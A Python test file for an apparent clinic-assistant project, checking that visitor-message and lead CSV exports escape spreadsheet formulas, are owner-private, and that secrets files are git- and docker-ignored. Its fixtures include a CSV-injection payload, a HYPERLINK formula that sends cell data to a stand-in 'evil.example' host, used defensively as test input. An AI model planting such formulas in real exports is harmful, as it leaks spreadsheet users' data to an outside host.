"""Exports and secrets stay out of the repository and the image; exported cells never run.

`make report CSV=` and `make leads CSV=` write visitors' words: a cell that starts with
= + - @ is a formula to a spreadsheet (=HYPERLINK(...) typed as a question). Both exports
share the protection of leads/spreadsheet.py, are readable by their owner only, and a
relative file name lands in exports/, which .gitignore and .dockerignore both exclude,
as they exclude deploy/.env (the filled-in secrets) from `git add` and from `COPY . .`.
"""
import csv
import json
import os
import re
import subprocess
import sys
import time

import pytest
import sqlalchemy as sa

from paths import ROOT

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def unanswered_store(path):
    """A tracker store with visitor messages the assistant could not answer."""
    engine = sa.create_engine(f"sqlite:///{path}")
    with engine.begin() as connection:
        connection.execute(sa.text(
            "CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, type_name TEXT, timestamp REAL, "
            "intent_name TEXT, action_name TEXT, data TEXT)"))
        for n, text in enumerate(FORMULAS):
            data = json.dumps({"text": text})
            connection.execute(sa.text("INSERT INTO events (sender_id, type_name, timestamp, intent_name, data) "
                                       "VALUES (:s, 'user', :t, 'nlu_fallback', :d)"),
                               {"s": f"visitor-{n}", "t": time.time(), "d": data})
    engine.dispose()


def test_the_report_export_never_holds_a_formula_and_is_private(tmp_path):
    unanswered_store(tmp_path / "conversations.db")
    out = tmp_path / "todo.csv"
    result = subprocess.run([sys.executable, "-m", "trainer.report", "--db", str(tmp_path / "conversations.db"),
                             "--csv", str(out)], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    questions = [row["question"] for row in csv.DictReader(out.open(encoding="utf-8"))]
    assert sorted(questions) == sorted("'" + f for f in FORMULAS)
    assert oct(out.stat().st_mode)[-3:] == "600"


def test_the_requests_export_is_private(tmp_path):
    from leads import cli, details
    from leads.store import RequestStore

    saved = RequestStore(f"sqlite:///{tmp_path / 'leads.db'}").add(
        details.new_request("Ann Lee", "ann@example.com", "mornings", None, "conv-1"))
    out = tmp_path / "requests.csv"
    out.write_text("old")
    out.chmod(0o644)  # an older export, readable by everyone: rewritten private
    cli.write_csv([saved], out)
    assert oct(out.stat().st_mode)[-3:] == "600" and "Ann Lee" in out.read_text()


def git_ignored(path: str) -> bool:
    return subprocess.run(["git", "check-ignore", "-q", path], cwd=ROOT).returncode == 0


def docker_ignored(path: str) -> bool:
    """Docker's .dockerignore rules: Go path patterns (* within a folder, ** across), the
    last matching line wins, ! re-includes, and a folder's exclusion covers its contents."""
    ignored = False
    for line in (ROOT / ".dockerignore").read_text().splitlines():
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        negate = line.startswith("!")
        pattern = line.lstrip("!").strip("/")
        regex = "".join(".*" if part == "**" else re.escape(part).replace(r"\*", "[^/]*").replace(r"\?", "[^/]")
                        for part in re.split(r"(\*\*)", pattern))
        regex = regex.replace(".*/", "(?:.*/)?")
        parts = path.split("/")
        if any(re.fullmatch(regex, "/".join(parts[:n])) for n in range(1, len(parts) + 1)):
            ignored = not negate
    return ignored


@pytest.mark.parametrize("path", ["deploy/.env", "deploy/single-vm/assistant.env", "exports/requests.csv",
                                  "requests.csv", "todo.csv", "var/leads.db", "var/conversations.db",
                                  "var/widget-secret", ".env"])
def test_secrets_and_personal_data_are_ignored_by_git_and_docker(path):
    assert git_ignored(path), f"git would offer to commit {path}"
    assert docker_ignored(path), f"COPY . . would put {path} into the image"


@pytest.mark.parametrize("path", ["deploy/example.env", "leads.yml", "channels/widget.py", "sources/clinic-page.txt"])
def test_the_project_itself_is_not_ignored(path):
    assert not git_ignored(path)
    assert not docker_ignored(path) or path.endswith("example.env")  # the image needs no example


def test_make_leads_csv_writes_into_the_ignored_exports_folder(tmp_path):
    from leads import details
    from leads.store import RequestStore

    leads_url = f"sqlite:///{tmp_path / 'leads.db'}"
    RequestStore(leads_url).add(details.new_request("Ann Lee", "ann@example.com", "mornings", None, "conv-1"))
    name = f"requests-test-{os.getpid()}.csv"
    exported = ROOT / "exports" / name
    env = dict(os.environ, LEADS_DB_URL=leads_url, TRACKER_STORE_URL=f"sqlite:///{tmp_path / 'conversations.db'}")
    try:
        result = subprocess.run(["make", "-s", "leads", f"CSV={name}"], cwd=ROOT, env=env, capture_output=True,
                                text=True, timeout=120)
        assert result.returncode == 0, result.stdout + result.stderr
        assert f"exports/{name}" in result.stdout and "Ann Lee" in exported.read_text(encoding="utf-8")
        assert not (ROOT / name).exists()
        status = subprocess.run(["git", "status", "--porcelain"], cwd=ROOT, capture_output=True, text=True).stdout
        assert [line for line in status.splitlines() if name in line or line[3:].startswith("exports")] == []
    finally:
        exported.unlink(missing_ok=True)
